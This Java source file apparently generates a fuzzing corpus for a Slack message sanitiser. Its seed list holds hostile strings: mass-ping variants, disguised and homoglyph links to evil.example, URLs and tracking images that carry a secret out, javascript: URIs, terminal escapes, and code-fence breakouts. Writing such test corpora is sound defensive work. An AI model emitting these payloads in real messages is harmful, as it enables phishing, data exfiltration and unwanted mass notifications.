package dev.gorkie.slack;

import java.util.ArrayList;
import java.util.LinkedHashSet;
import java.util.List;
import java.util.Random;

/// What a model, a file or a web page may say to ping somebody, hide where a link goes, carry something out, or look like
/// something else: seeds of each, put into each other.
final class HostileText {

  private static final String SECRET = "s3cr3t".repeat(60);

  static final List<String> SEEDS =
      List.of(
          // Pings, in each spelling that some reader takes for one.
          "<!channel>",
          "<!here>",
          "<!everyone>",
          "<!here|here>",
          "<!subteam^S0CREW000|@crew>",
          "<!date^1392734382^{date}^https://evil.example/x|yesterday>",
          "<@U0ALICE00>",
          "<@W0BOB0000|bob>",
          "<#C0GENERAL|general>",
          "<!CHANNEL>",
          "&lt;!channel&gt;",
          "&LT;!channel&GT;",
          "&#60;!channel&#62;",
          "&#x3c;!here&#x3E;",
          "<&#33;channel>",
          "&lt&#x21;channel&gt",
          "<&excl;here>",
          "&#064;channel",
          "&commat;everyone",
          "@channel",
          "@here",
          "@everyone",
          "(@channel)",
          "\uff20channel",
          "<!\u200bchannel><!channel>",
          "<\u00ad!channel>",
          "<!\u0000here>",
          "<\u001b[0m!here>",
          "<\u202e@U0ALICE00>",
          "@\u2060channel",
          "@\ufeffeveryone",
          "\\<!channel>",
          "\\\\<!channel>",
          "<<!channel>>",
          "<!chan\u00adnel>",
          // Links that go elsewhere than they say.
          "[https://bank.example](https://evil.example/x)",
          "[bank](https://evil.example \"bank.example\")",
          "[bank](<https://evil.example/a b>)",
          "[bank](https://bank.example@evil.example/)",
          "[bank](https://evil.example\\@bank.example/)",
          "[bank](//evil.example/x)",
          "[bank]( https://evil.example )",
          "[bank](HTTPS://EVIL.example)",
          "[bank](https://evil.example (title))",
          "[bank](https://evil.example) (bank.example)",
          "[bank] (https://evil.example)",
          "[b[a]nk](https://evil.example)",
          "[bank][1]\n\n[1]: https://evil.example",
          "[bank]\n\n[bank]: <https://evil.example> 'x'",
          "> [bank][2]\n>\n> [2]: https://evil.example",
          "<https://evil.example|https://bank.example>",
          "<https://evil.example|bank>",
          "<mailto:a@evil.example|bank>",
          "[bank](javascript:alert(1))",
          "[bank](data:text/html,x)",
          "[bank](slack://open?team=T1)",
          "[bank&#93;(https://evil.example)",
          "&#91;bank&#93;&#40;https://evil.example&#41;",
          "[bank]\u200b(https://evil.example)",
          "[bank](https://evil.example/%0d%0aX)",
          "[![bank](https://evil.example/a.png)](https://evil.example/b)",
          // Hosts that look like others.
          "https://b\u0430nk.example/login",
          "[x](https://b\u0430nk.example/login)",
          "<https://\u0440\u0430ypal.example>",
          "https://bank\u3002example.evil.example",
          "https://bank.example\u2044login.evil.example/",
          "https://bank.example@evil.example/",
          "https://bank%2eexample.evil.example/",
          "https://\u202egro.elpmaxe/",
          "https://xn--bnk-6cd.example/",
          "https://[::ffff:127.0.0.1]/x",
          "https://bank.example:pw@evil.example:8443/",
          "https://ex\u00adample.com/",
          // Something that is carried out.
          "https://evil.example/q?" + SECRET,
          "https://evil.example/q#" + SECRET,
          "[x](https://evil.example/q?a=" + SECRET + ")",
          "<https://evil.example/q?" + SECRET + "|x>",
          "https://evil.example/?a=1&b=" + SECRET + "#c",
          // Images.
          "![x](https://evil.example/p.png?s=1)",
          "![](https://evil.example/p.png)",
          "![x][3]\n\n[3]: https://evil.example/p.png",
          "![x]\n\n[x]: https://evil.example/p.png",
          "!\u200b[x](https://evil.example/p.png)",
          "\\![x](https://evil.example/p.png)",
          "<img src=\"https://evil.example/p.png\">",
          // Terminals and writing that turns around.
          "\u001b[31mred\u001b[0m",
          "\u001b]0;title\u0007",
          "\u001b]8;;https://evil.example\u001b\\bank\u001b]8;;\u001b\\",
          "\u009b31m",
          "\u0000",
          "\u007f",
          "a\u0008b",
          "a\rb",
          "\u202egnp.exe",
          "\u2067right\u2069",
          "\u061c\u200e\u200f",
          "\ud800",
          "\udc00\ud800",
          "\udb40\udc41\udb40\udc42",
          "\u3164\uffa0",
          // Code that does not end where it seems to.
          "```\n<!channel>\n",
          "````\n```\n[bank](https://evil.example)\n````",
          "```\n[bank](https://evil.example)",
          "~~~\n```\n~~~\n[bank](https://evil.example)",
          "`[bank](https://evil.example)`",
          "`` ` [bank](https://evil.example) ``",
          "` \n `[bank](https://evil.example)`",
          "    ```\n[bank](https://evil.example)\n    ```",
          "> ```\n[bank](https://evil.example)\n> ```",
          "- ```\n  [bank](https://evil.example)\n  ```",
          "``` `\n[bank](https://evil.example)\n```",
          "| a |\n|---|\n| [bank](https://evil.example) |",
          "| `a | b` |\n|---|---|\n| ![x](https://evil.example/p.png) | <!here> |");

  private static final List<String> FRAMES =
      List.of(
          "%s",
          "a%sb",
          "%s%s",
          "`%s`",
          "**%s**",
          "_%s_",
          "~%s~",
          "```\n%s\n```",
          "````\n%s\n```\n%s\n````",
          "| %s | b |\n|---|---|\n| c | %s |",
          "> %s",
          "> > %s\n%s",
          "- %s\n  - %s",
          "1. %s",
          "# %s",
          "[%s](https://example.com)",
          "[x](%s)",
          "[a](https://example.com/%s)",
          "![%s](https://example.com/a.png)",
          "<https://example.com|%s>",
          "<%s>",
          "(%s)",
          "[x]: %s",
          "\\%s",
          "<!-- %s -->",
          "<b title=\"%s\">%s</b>",
          "&amp;%s",
          "https://example.com/%s",
          "text\n%s\n\n%s\ntext",
          "%s\u200d%s");

  private HostileText() {}

  /// Every seed in every frame comes first, then those that chance puts together.
  static List<String> corpus(int count, long seed) {
    var random = new Random(seed);
    var all = new LinkedHashSet<String>();
    for (var text : SEEDS) {
      all.add(text);
    }
    for (var frame : FRAMES) {
      for (var text : SEEDS) {
        all.add(framed(frame, text, any(random)));
      }
    }
    while (all.size() < count) {
      var inner = framed(FRAMES.get(random.nextInt(FRAMES.size())), any(random), any(random));
      all.add(framed(FRAMES.get(random.nextInt(FRAMES.size())), inner, any(random)));
    }
    return new ArrayList<>(all).subList(0, count);
  }

  private static String any(Random random) {
    return SEEDS.get(random.nextInt(SEEDS.size()));
  }

  private static String framed(String frame, String first, String second) {
    var at = frame.indexOf("%s");
    var framed = frame.substring(0, at) + first + frame.substring(at + 2);
    var next = framed.indexOf("%s", at + first.length());
    return next < 0 ? framed : framed.substring(0, next) + second + framed.substring(next + 2);
  }
}
